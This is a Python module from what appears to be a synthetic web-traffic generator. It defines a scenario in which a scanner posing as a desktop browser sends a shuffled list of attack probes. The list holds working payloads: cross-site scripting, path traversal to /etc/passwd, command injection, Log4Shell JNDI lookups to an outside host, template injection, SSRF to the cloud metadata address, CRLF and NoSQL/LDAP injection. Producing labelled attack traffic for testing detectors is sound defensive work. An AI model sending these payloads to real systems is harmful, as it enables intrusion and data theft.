"""A scanner puts script, paths, commands, code, URLs and headers where pages expect values."""

from collections.abc import Sequence

from traffic import addresses, user_agents
from traffic.chance import chance
from traffic.people import Person
from traffic.scenario import Scenario
from traffic.visit import Visit
from traffic.visitor import Visitor

SLUG = "web_attack_probe"

PROBES = {
    "cross-site scripting": (
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=%22%3E%3Csvg/onload=confirm(document.domain)%3E",
        "/search?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
        "/login?next=JaVaScRiPt:alert(1)",
    ),
    "path traversal": (
        "/?file=../../../../etc/passwd",
        "/?file=..%252f..%252f..%252fetc%252fpasswd",
        "/?page=..%c0%af..%c0%af..%c0%afboot.ini",
        "/?page=php://filter/convert.base64-encode/resource=index",
    ),
    "command injection": (
        "/ping?host=127.0.0.1;id",
        "/ping?host=127.0.0.1%7Cwhoami",
        "/ping?host=$(sleep%205)",
        "/ping?host=127.0.0.1%0acat${IFS}/etc/hosts",
    ),
    "code injection": (
        "/?name=%7B%7B7*7%7D%7D",
        "/?name=$%7Bjndi:ldap://198.51.100.99/a%7D",
        "/?name=$%7B$%7Blower:j%7Dndi:ldap://198.51.100.99/a%7D",
        "/?name=%7B%7B''.__class__.__mro__%7D%7D",
    ),
    "request forgery": (
        "/?url=http://169.254.169.254/latest/meta-data/",
        "/?url=gopher://127.0.0.1:6379/_info",
        "/?url=http://2852039166/",
    ),
    "header injection": (
        "/?lang=en%0d%0aSet-Cookie:%20admin=1",
        "/?lang=en%0d%0a%0d%0a%3Chtml%3E",
    ),
    "query injection": (
        "/login?username[$ne]=x&password[$ne]=x",
        "/search?q=*)(uid=*))(%7C(uid=*",
    ),
}


def scenario(seed: int, people: Sequence[Person]) -> Scenario:
    """Needs no people: the scanner never signs in, and calls itself a browser."""
    dice = chance(SLUG, seed)
    attacker = Visitor(
        key=SLUG,
        address=str(addresses.attacker_block(6)[dice.randrange(1, 11)]),
        user_agent=user_agents.DESKTOP[0],
    )
    probes = [path for paths in PROBES.values() for path in paths]
    visit = Visit(attacker, 0.0, dice)
    for path in ("/", "/login"):
        visit.get(path, (0.5, 2.0))
    for path in dice.sample(probes, len(probes)):
        visit.get(path, (4.0, 12.0))
    return Scenario(
        slug=SLUG,
        intent="attack",
        description="A scanner tries the classes of web attack one after the other: plain, encoded "
        "once and twice, in mixed case.",
        visitors=(attacker,),
        actions=tuple(visit.actions),
        sources=(attacker.address,),
    )
